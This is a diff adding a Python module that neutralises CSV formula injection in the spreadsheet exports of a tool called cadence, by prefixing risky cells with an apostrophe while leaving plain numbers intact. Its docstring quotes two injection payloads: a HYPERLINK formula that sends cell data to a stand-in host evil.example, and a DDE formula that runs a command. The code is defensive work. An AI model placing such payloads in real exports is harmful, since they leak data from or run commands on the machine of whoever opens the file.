@@ -1,0 +1,59 @@
+"""Cells of the CSV files cadence writes, made safe to open in a spreadsheet (CSV or formula injection).
+
+A spreadsheet (Excel, LibreOffice Calc, Google Sheets) runs a cell that starts with ``=``, ``+``,
+``-`` or ``@`` as a formula: a lead's company ``=HYPERLINK("https://evil.example?"&A1, "click")``
+or ``=cmd|'/c calc'!A1`` would run on the machine of whoever opens the export. Every CSV cadence
+writes (the rejects file of ``cadence leads import``, ``cadence report --csv`` and
+``cadence postcards export``) passes each cell through :func:`csv_cell` (text through
+:func:`neutralize_formula`), following OWASP's advice:
+
+- text that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return, a line feed or a NUL,
+  or whose first character after leading white space is ``=``, ``+``, ``-`` or ``@`` (some
+  spreadsheets trim spaces when they import), is written with a ``'`` in front. The spreadsheet
+  shows it as text; removing that one ``'`` gives the value back exactly.
+- text that is a plain decimal number (``-5``, ``+3``, ``-0.25``, ``1e-3``: an optional sign,
+  ASCII digits, an optional fraction and exponent, nothing else) is written as it is: a spreadsheet
+  reads it as that number, it cannot hold a formula, and a negative figure stays a number one can
+  add up. ``-5 apples`` or ``-1+1`` are not plain numbers and are prefixed.
+- numbers (``int``, ``float``) are written as they are, and ``None`` as an empty cell; a float
+  that is not finite (``-inf``, ``nan``) is written as text, like any other text.
+"""
+
+from __future__ import annotations
+
+import math
+import re
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
+"""Characters that make a spreadsheet read a cell as a formula when the cell starts with one."""
+
+_FORMULA_AFTER_SPACE = ("=", "+", "-", "@")
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+
+
+def is_plain_number(text: str) -> bool:
+    """Whether ``text`` is exactly a decimal number such as ``-5``, ``+3.25`` or ``1e-3`` (no spaces)."""
+    return _PLAIN_NUMBER.fullmatch(text) is not None
+
+
+def neutralize_formula(cell: str) -> str:
+    """``cell`` with a ``'`` in front if a spreadsheet would run it as a formula, else ``cell`` unchanged.
+
+    See the module documentation for the rules; a plain number such as ``-5`` is left as it is.
+    """
+    if not cell or is_plain_number(cell):
+        return cell
+    if cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(_FORMULA_AFTER_SPACE):
+        return f"'{cell}"
+    return cell
+
+
+def csv_cell(value: object) -> str | int | float:
+    """The value to hand to :mod:`csv` for one cell: numbers as they are, ``None`` empty, text neutralised."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return str(value)
+    if isinstance(value, int) or (isinstance(value, float) and math.isfinite(value)):
+        return value
+    return neutralize_formula(value if isinstance(value, str) else str(value))
